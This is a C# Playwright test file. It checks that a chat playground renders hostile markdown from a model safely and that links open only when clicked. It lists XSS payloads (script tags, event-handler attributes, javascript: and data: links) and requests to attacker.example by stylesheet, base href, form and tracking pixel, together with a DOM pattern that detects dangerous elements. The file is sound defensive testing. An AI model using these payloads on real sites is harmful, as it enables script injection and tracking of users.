using Playground.Browser.Tests.Hosting;
using static Microsoft.Playwright.Assertions;

namespace Playground.Browser.Tests.Comparisons;

public sealed class MarkdownSafetyTests(Chromium chromium, Site site) : ComparePageTest(chromium, site)
{
    // What a hostile model may write: each would set window.caught or ask another host, if it came alive. PageTest fails on such a request.
    static readonly string[] _attacks =
    [
        "<script>window.caught = 1</script>",
        "<img src=x onerror=\"window.caught = 1\">",
        "<svg onload=\"window.caught = 1\"><animate onbegin=\"window.caught = 1\" attributeName=x dur=1s></svg>",
        "<iframe srcdoc=\"<script>parent.caught = 1</script>\"></iframe>",
        "<details open ontoggle=\"window.caught = 1\">x</details>",
        "<style>@import url(https://attacker.example/style.css); body { display: none }</style>",
        "<link rel=stylesheet href=https://attacker.example/link.css><base href=https://attacker.example/>",
        "<form action=https://attacker.example/><button>press</button></form>",
        "[click](javascript:window.caught=1) [click](JaVaScRiPt&#58;window.caught=1) [click](data:text/html,<script>opener.caught=1</script>) [click](vbscript:x)",
        "[reference][r]\n\n[r]: javascript:window.caught=1",
        "<javascript:window.caught=1>",
        "![picture](https://attacker.example/pixel.png) ![x](x\" onerror=\"window.caught=1)",
        "[link](https://attacker.example/ \"title\\\" onmouseover=\\\"window.caught=1\")",
        "| <img src=x onerror=window.caught=1> | `<script>` |\n|-|-|\n| a | b |",
        "```html\n<script>window.caught = 1</script>\n```",
        "```\"onmouseover=\"window.caught=1\ncode\n```",
    ];

    [Fact]
    public async Task HostileAnswer_RenderedWholeAndPiecewise_NeverComesAlive()
    {
        var text = string.Join("\n\n", _attacks) + "\n\nThe end of it.";
        Host.Answering("Attack").Say([.. text.Chunk(7).Select(piece => new string(piece))]).End();
        Host.Answering("Attack", ChatHost.Small).Think(text).Say(text).End();
        var screen = await AskAsync("Attack");
        await screen.EndedAsync();
        await Expect(screen.Answer('A')).ToContainTextAsync("The end of it.");
        await Expect(screen.Answer('B')).ToContainTextAsync("The end of it.");
        await screen.Answer('B').GetByText("Reasoning").ClickAsync();
        await screen.Page.ReloadAsync();
        await Expect(screen.Answer('A')).ToContainTextAsync("The end of it.");

        Assert.Null(await screen.Page.EvaluateAsync<object?>("window.caught ?? null"));
        Assert.Empty(await screen.Page.EvaluateAsync<string[]>("""
            () => [...document.querySelectorAll('.lane-content *')].flatMap(element => [
              ...(/^(script|img|svg|iframe|style|link|base|form|object|embed|video|audio|input)$/i.test(element.tagName) && element.closest('.answer, .plain') ? [element.outerHTML] : []),
              ...[...element.attributes].filter(attribute => /^on|^style$|^src/i.test(attribute.name) || /^\s*(javascript|data|vbscript):/i.test(attribute.value)).map(attribute => element.outerHTML),
            ])
            """));
    }

    [Fact]
    public async Task LinkAndImage_InAnAnswer_OpenElsewhereOnlyWhenClicked()
    {
        Host.Answering("Links").Say("See [the docs](https://docs.example/a?b=1) and ![a chart](https://img.example/c.png)").End();
        var screen = await AskAsync("Links");
        await screen.EndedAsync();

        var link = screen.Answer('A').GetByText("the docs");
        await Expect(link).ToHaveAttributeAsync("href", "https://docs.example/a?b=1");
        await Expect(link).ToHaveAttributeAsync("rel", "noopener noreferrer nofollow");
        await Expect(link).ToHaveAttributeAsync("target", "_blank");
        await Expect(screen.Answer('A').GetByText("Image, not loaded: a chart (img.example)")).ToHaveAttributeAsync("href", "https://img.example/c.png");
    }
}
